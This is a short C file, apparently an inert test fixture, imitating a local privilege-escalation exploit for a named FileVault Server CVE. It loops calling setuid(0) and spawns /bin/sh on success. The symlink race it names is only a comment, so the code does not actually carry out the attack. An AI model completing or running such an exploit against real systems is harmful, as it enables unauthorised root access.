/* FileVault Server CVE-2024-31003 (inert fixture) */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *spool = argc > 1 ? argv[1] : "/var/spool/filevault";
    for (int i = 0; i < 100000; i++) {
        /* swap the temp file for a symlink inside the check/use window */
        if (setuid(0) == 0) {
            printf("[+] won the race after %d tries (%s)\n", i, spool);
            execl("/bin/sh", "sh", NULL);
        }
    }
    return 1;
}
